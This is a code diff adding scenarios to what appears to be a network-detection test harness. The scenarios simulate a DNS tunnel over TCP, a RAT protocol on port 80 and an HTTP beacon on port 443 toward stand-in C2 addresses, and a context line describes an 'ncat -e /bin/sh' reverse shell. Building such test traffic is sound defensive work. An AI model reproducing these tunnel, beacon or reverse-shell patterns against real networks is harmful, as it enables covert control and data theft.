@@ -216,6 +216,21 @@ def _dns2tcp(node: Node, work: Path) -> None:
         _stop(client, server, echo)
 
 
+def _dns_over_tcp(node: Node, work: Path) -> None:
+    """dnsmasq as the attacker's name server for its zone (every name local: answered NXDOMAIN), and
+    tunnel-shaped TXT questions to it over one TCP connection, as a tunnel picking TCP sends them."""
+    node.add_address("ns", TUNNEL_NS_IP)
+    server = node.start("ns", "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv", "--no-hosts",
+                        f"--listen-address={TUNNEL_NS_IP}", "--bind-interfaces", "--port=53", "--user=root",
+                        f"--pid-file={work / 'dnsmasq.pid'}", "--local=/tcp.tunnel-lab.example/", **QUIET)
+    try:
+        time.sleep(1.0)
+        node.run("victim", *TOOL, "dns-tunnel", TUNNEL_NS_IP, "tcp.tunnel-lab.example", "dnscat2", "30", "0.05",
+                 "--tcp", check=True, capture_output=True, timeout=60)
+    finally:
+        _stop(server)
+
+
 def _ptunnel(node: Node, work: Path) -> None:
     """ptunnel-ng's client in the victim, its proxy on a relay outside; the relay's kernel stops answering
     pings so that the proxy's own replies carry the data back."""
@@ -312,6 +327,34 @@ def _tls_beacon_connections(node: Node, work: Path) -> None:
         _stop(server)
 
 
+def _rat_on_port_80(node: Node, work: Path) -> None:
+    """A RAT speaking its own binary protocol over port 80 (egress filters let 80 out), reconnecting:
+    three sessions of three random 1 kB messages to its server, each echoed back."""
+    node.add_address("c2", C2_IP)
+    server = _echo_server(node, "c2", C2_IP, 80)
+    try:
+        time.sleep(1.0)
+        for _ in range(3):
+            node.run("implant", *TOOL, "tunnel-client", C2_IP, "80", "3", "1024", "0.2", check=True,
+                     capture_output=True, timeout=60)
+    finally:
+        _stop(server)
+
+
+def _http_on_443(node: Node, work: Path) -> None:
+    """A check-in over cleartext HTTP on port 443, as a malleable HTTP profile on a TLS port does."""
+    node.add_address("c2", C2_IP)
+    (work / "c2").mkdir()
+    (work / "c2" / "task").write_text("sleep\n")
+    server = _serve_http(node, "c2", C2_IP, 443, work / "c2")
+    try:
+        time.sleep(1.0)
+        node.run("implant", *TOOL, "beacon", f"http://{C2_IP}:443/task", "3", "0.5", "0.2", check=True,
+                 capture_output=True, timeout=60)
+    finally:
+        _stop(server)
+
+
 def _wait_for(ready: Callable[[], bool], seconds: float) -> None:
     end = time.monotonic() + seconds
     while not ready():
@@ -337,6 +380,8 @@ SCENARIOS = (
              "dns_tunneling", "victim", ("victim", "ns"), _iodine, ("/usr/sbin/iodine", "/usr/sbin/iodined", "socat")),
     Scenario("dns2tcp DNS tunnel", "dns2tcpc to dns2tcpd (TXT queries), 6 echoed 4 kB writes through it",
              "dns_tunneling", "victim", ("victim", "ns"), _dns2tcp, ("dns2tcpc", "dns2tcpd", "socat")),
+    Scenario("DNS tunnel over TCP", "30 dnscat2-shaped TXT questions over one TCP connection to dnsmasq, the zone's "
+             "name server", "dns_tunneling", "victim", ("victim", "ns"), _dns_over_tcp, ("/usr/sbin/dnsmasq",)),
     Scenario("ptunnel-ng ICMP tunnel", "ptunnel-ng client to its proxy over ICMP echo, 10 echoed 4 kB writes",
              "icmp_tunneling", "victim", ("victim", "relay"), _ptunnel, ("ptunnel-ng", "socat")),
     Scenario("ncat reverse shell", "ncat -e /bin/sh from the web pod to ncat -l on 4444; 10 commands typed as lines",
@@ -354,6 +399,10 @@ SCENARIOS = (
     Scenario("TLS beacon, a connection each", "Python ssl client, no SNI, an HTTPS GET every 2 s +-10% x25, to "
              "openssl s_server -WWW on 443", "beaconing", "implant", ("implant", "c2"), _tls_beacon_connections,
              ("openssl",)),
+    Scenario("RAT protocol on port 80", "Python client, 3 sessions of 3 random 1 kB messages, to socat echoing on "
+             "198.51.100.50:80", "unusual_destination", "implant", ("implant", "c2"), _rat_on_port_80, ("socat",)),
+    Scenario("cleartext HTTP on 443", "HTTP check-in every 0.5 s +-20%, 3 times, to python -m http.server on "
+             "198.51.100.50:443", "unusual_destination", "implant", ("implant", "c2"), _http_on_443),
 )
 
 
